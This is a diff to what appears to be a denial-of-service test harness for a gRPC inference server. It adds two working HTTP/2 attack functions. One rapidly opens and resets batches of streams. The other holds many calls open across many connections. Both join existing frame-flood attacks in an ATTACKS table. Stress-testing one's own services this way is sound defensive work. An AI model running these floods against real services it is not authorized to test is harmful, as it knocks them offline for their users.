@@ -9,7 +9,7 @@ import time
 
 import plain_grpc
 from plain_grpc import (ACK, CONTINUATION, DATA, END_HEADERS, HEADERS, INITIAL_WINDOW_SIZE, MAX_FRAME_BYTES, PING, PREFACE,
-                        SETTINGS, WINDOW_UPDATE, frame, varint)
+                        RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, varint)
 
 HEALTH_CHECK = "/grpc.health.v1.Health/Check"
 PRIORITY_FRAME, UNKNOWN_FRAME = 2, 0xFE
@@ -69,6 +69,36 @@ def flood_with(unit, start=b""):
     return flood
 
 
+def resets(method, num_at_once):
+    """An attack that begins calls and resets them, so many in one write and then the resets in the next."""
+    def reset(address, seconds):
+        connection = connect(address)
+        block = headers(method)
+        stream = 1
+        end = time.monotonic() + seconds
+        while time.monotonic() < end:
+            streams = range(stream, stream + 2 * num_at_once, 2)
+            stream = streams.stop
+            connection.sendall(b"".join(frame(HEADERS, END_HEADERS, each, block) for each in streams))
+            connection.sendall(b"".join(frame(RST_STREAM, 0, each, struct.pack(">I", 8)) for each in streams))
+        return stream // 2
+    return reset
+
+
+def open_calls(method, num_connections, num_calls):
+    """An attack that begins calls and leaves them open."""
+    def leave_open(address, seconds):
+        block = headers(method)
+        calls = b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) for i in range(num_calls))
+        connections = []
+        for _ in range(num_connections):
+            connections.append(connect(address))
+            connections[-1].sendall(calls)
+        time.sleep(seconds)
+        return len(connections) * num_calls
+    return leave_open
+
+
 CALL = frame(HEADERS, END_HEADERS, 1, headers(HEALTH_CHECK))
 ATTACKS = {
     "long_header": long_header,
@@ -78,6 +108,8 @@ ATTACKS = {
     "empty_data": flood_with(frame(DATA, 0, 1), CALL),
     "small_windows": flood_with(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)), CALL),
     "priority": flood_with(frame(PRIORITY_FRAME, 0, 3, b"\0\0\0\1\1")),
+    "resets": resets(plain_grpc.INFER, 100),
+    "open_calls": open_calls(plain_grpc.STREAM_INFER, 100, 1000),
     "unknown": flood_with(frame(UNKNOWN_FRAME, 0, 0)),
 }
 
